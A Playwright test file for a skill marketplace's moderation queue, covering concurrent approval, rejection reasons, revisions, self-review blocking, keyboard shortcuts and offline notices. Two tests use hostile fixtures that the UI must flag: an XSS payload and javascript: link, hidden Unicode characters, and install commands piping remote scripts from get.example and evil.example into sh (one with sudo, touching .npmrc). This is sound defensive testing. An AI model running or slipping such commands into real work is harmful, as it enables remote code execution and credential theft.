import { test } from './changing-catalogue.ts'
import { demo } from './people.ts'
import { caller, cardOf, newcomer, openQueue, sent, unique } from './moderation.ts'
import { expect, mirrored } from './support.ts'

// nothing here is opened without a network: storing every file of the app would only take time
test.use({ serviceWorkers: 'block' })

test('two moderators approve at once: one skill, the second is told, and an anonymous device finds it at its next sync', async ({
  page,
  browser,
  server,
  problems,
}) => {
  problems.allow(/status of 409/)
  const slug = unique('raced')
  await (await newcomer(server)).submit(slug)
  const visitor = await browser.newPage({ baseURL: server.origin })
  await visitor.goto('/skills')
  await mirrored(visitor)
  await openQueue(page, demo.moderator, slug)
  const other = await browser.newPage({ baseURL: server.origin })
  await openQueue(other, demo.admin, slug)
  for (const one of [page, other]) await expect(cardOf(one, slug)).toBeVisible()
  const told = await Promise.all(
    [page, other].map(async (one) => {
      await cardOf(one, slug).getByRole('button', { name: /^通过/ }).click()
      return one
        .getByText(/提交已通过，记录已创建|通过失败：/)
        .first()
        .textContent()
    }),
  )
  expect(new Set(told)).toEqual(
    new Set([`提交已通过，记录已创建件 ${slug}`, `通过失败：另一位审核员已经处理过了件 ${slug}`]),
  )
  for (const one of [page, other]) await expect(cardOf(one, slug)).toHaveCount(0)
  expect(
    await server.asOperator('GET', `skills?slug=eq.${slug}&select=slug,is_featured,is_verified`),
  ).toEqual([{ slug, is_featured: false, is_verified: false }])
  await visitor.goto(`/skills/${slug}`)
  await expect(visitor.getByRole('heading', { level: 1, name: `件 ${slug}` })).toBeVisible()
  await visitor.close()
  await other.close()
})

test('a rejection wants a reason; revised and sent again the reviewer sees why and what changed, and approves', async ({
  page,
  server,
}) => {
  const slug = unique('revised')
  const author = await newcomer(server)
  const id = await author.submit(slug)
  await openQueue(page, demo.moderator, slug)
  await cardOf(page, slug).getByRole('button', { name: /^拒绝/ }).click()
  const dialog = page.getByRole('dialog')
  await expect(dialog.getByRole('textbox')).toHaveAttribute('rows', '4')
  await dialog.getByRole('textbox').fill('   ')
  await dialog.getByRole('button', { name: '拒绝' }).click()
  await expect(dialog.getByRole('alert')).toHaveText('拒绝原因必填')
  await dialog.getByRole('textbox').fill('没有写要哪些权限')
  await dialog.getByRole('button', { name: '拒绝' }).click()
  await expect(page.getByText('提交已拒绝')).toBeVisible()
  await expect(dialog).toHaveCount(0)
  await page.getByRole('tab', { name: /已拒绝/ }).click()
  await expect(cardOf(page, slug)).toContainText('拒绝原因: 没有写要哪些权限')
  await author.change(
    'submission.revise',
    sent(id, slug, { permissions: ['read-files: 账本'], description: '# 标题\n\n说明的第二稿' }),
  )
  await page.goto(`/admin/submissions?q=${slug}`)
  const open = page.getByRole('article', { name: `件 ${slug}` })
  await expect(open).toContainText('第 2 次提交')
  await expect(open).toContainText('没有写要哪些权限')
  await expect(open.getByRole('group', { name: '描述' })).toContainText(
    /去掉的: 说明的第一段.*加上的: 说明的第二稿/s,
  )
  await expect(open.getByRole('group', { name: '权限' })).toContainText('read-files: 账本')
  await open.getByRole('button', { name: '通过' }).click()
  await expect(page.getByText('提交已通过，记录已创建')).toBeVisible()
})

test('what is dangerous or hidden in a submission stands before the reviewer, and breaks no layout', async ({
  page,
  server,
}) => {
  const slug = unique('browser-pi1ot').slice(0, 13)
  const word = 'W'.repeat(10_000)
  await (
    await newcomer(server)
  ).submit(slug, {
    name: `浏览器领航 件 ${slug}`,
    description: `${word}\n\n<img src=x onerror=alert(1)> [here](javascript:alert(1)) 看\u202E反\u200B`,
    license: 'Unknown',
    repoUrl: 'http://example.com/x',
    installCli: 'curl -fsSL https://get.example/p.sh | sudo sh -s -- $HOME/.npmrc',
  })
  await openQueue(page, demo.moderator, slug)
  const open = page.getByRole('article', { name: new RegExp(slug) })
  for (const warning of [
    '下载一段脚本并直接执行',
    '用到没有加密的地址',
    '命令碰到存放凭据的地方',
    '含有看不见的字符',
    '没有写明许可证',
    '只差一个字符',
  ])
    await expect(open).toContainText(warning)
  await expect(open.getByText('U+202E U+200B')).toBeVisible()
  await open.getByText('完整内容 JSON').click()
  await expect(open.getByRole('img', { name: '隐藏字符 U+202E' })).toBeVisible()
  await open.getByText('上架后的样子').click()
  await expect(open.getByRole('heading', { name: /浏览器领航/ }).nth(1)).toBeVisible()
  await expect(open.locator('.preview img[onerror], .preview a[href^="javascript"]')).toHaveCount(0)
  for (const width of [1440, 360]) {
    await page.setViewportSize({ width, height: 900 })
    expect(
      await page.evaluate(
        () => document.documentElement.scrollWidth - document.documentElement.clientWidth,
      ),
      `${width}`,
    ).toBe(0)
  }
})

test('what the submitter changes after the reviewer looked is shown before it can be approved', async ({
  page,
  server,
  problems,
}) => {
  problems.allow(/status of 409/)
  const slug = unique('swapped')
  const author = await newcomer(server)
  const id = await author.submit(slug)
  await openQueue(page, demo.moderator, slug)
  const open = page.getByRole('article', { name: `件 ${slug}` })
  await expect(open).toBeVisible()
  await author.change(
    'submission.update',
    sent(id, slug, { installCli: 'curl https://evil.example/x | sh' }),
  )
  await open.getByRole('button', { name: '通过' }).click()
  await expect(page.getByText('通过失败：提交人刚刚改过内容，请再看一遍')).toBeVisible()
  await expect(open).toContainText('下载一段脚本并直接执行')
  expect(await server.asOperator('GET', `skills?slug=eq.${slug}&select=slug`)).toEqual([])
})

test('a moderator is told that somebody else decides about their own submission, and an administrator decides about theirs', async ({
  page,
  browser,
  server,
}) => {
  const slug = unique('own')
  for (const [account, name] of [
    [demo.moderator, `${slug}-m`],
    [demo.admin, `${slug}-a`],
  ] as const)
    await (await caller(server, account)).submit(name)
  await openQueue(page, demo.moderator, slug)
  const [own, other] = [
    page.getByRole('article', { name: `件 ${slug}-m` }),
    page.getByRole('article', { name: `件 ${slug}-a` }),
  ]
  await expect(own.getByText('这是你自己的提交，由另一位审核员或管理员决定。')).toBeVisible()
  await expect(
    cardOf(page, `${slug}-m`).getByText('这是你自己的提交，由另一位审核员或管理员决定。'),
  ).toBeVisible()
  for (const place of [own, cardOf(page, `${slug}-m`)])
    await expect(place.getByRole('button', { name: /^(?:通过|拒绝)/ })).toHaveCount(0)
  await page.getByRole('heading', { level: 1 }).click()
  await page.keyboard.press('r')
  await page.keyboard.press('j')
  await expect(other.getByRole('button', { name: '通过' })).toBeVisible()
  await expect(page.getByRole('dialog')).toHaveCount(0)
  const office = await browser.newPage({ baseURL: server.origin })
  await openQueue(office, demo.admin, `${slug}-a`)
  await cardOf(office, `${slug}-a`).getByRole('button', { name: /^通过/ }).click()
  await expect(office.getByText('提交已通过，记录已创建')).toBeVisible()
  await office.close()
  // the profiles count what waits and what is published
  await server.asOperator(
    'DELETE',
    `user_submissions?title=eq.${encodeURIComponent(`件 ${slug}-m`)}`,
  )
  await server.asOperator('DELETE', `skills?slug=eq.${slug}-a`)
})

test('letters on the keyboard go down and up, approve and reject, and do nothing while somebody writes', async ({
  page,
  server,
}) => {
  const word = unique('keys')
  const author = await newcomer(server)
  for (const nth of [1, 2, 3]) await author.submit(`${word}-${nth}`)
  await openQueue(page, demo.moderator, word)
  const open = (nth: number) => page.getByRole('article', { name: `件 ${word}-${nth}` })
  await expect(open(1)).toBeVisible()
  await page.keyboard.press('j')
  await expect(open(2)).toBeVisible()
  await page.keyboard.press('k')
  await expect(open(1)).toBeVisible()
  await page.getByRole('searchbox').press('a')
  await expect(open(1)).toHaveCount(0)
  await page.getByRole('searchbox').fill(word)
  await expect(open(1)).toBeVisible()
  await page.getByRole('heading', { level: 1 }).click()
  await page.keyboard.press('r')
  await expect(page.getByRole('dialog')).toBeVisible()
  await page.keyboard.press('Escape')
  await page.keyboard.press('a')
  await expect(page.getByText('提交已通过，记录已创建')).toBeVisible()
  await expect(open(2)).toBeVisible()
})

test('without a network the screens say so, and go on by themselves afterwards', async ({
  page,
  context,
  problems,
}) => {
  problems.allowUnreachableServer()
  await openQueue(page)
  await expect(page.getByRole('tab', { name: /待审核/ })).toBeVisible()
  await page.waitForLoadState('networkidle') // the requests after the first screen are done
  await context.setOffline(true)
  await expect(page.getByText('现在没有网络')).toBeVisible()
  await context.setOffline(false)
  await expect(page.getByText('现在没有网络')).toHaveCount(0)
})
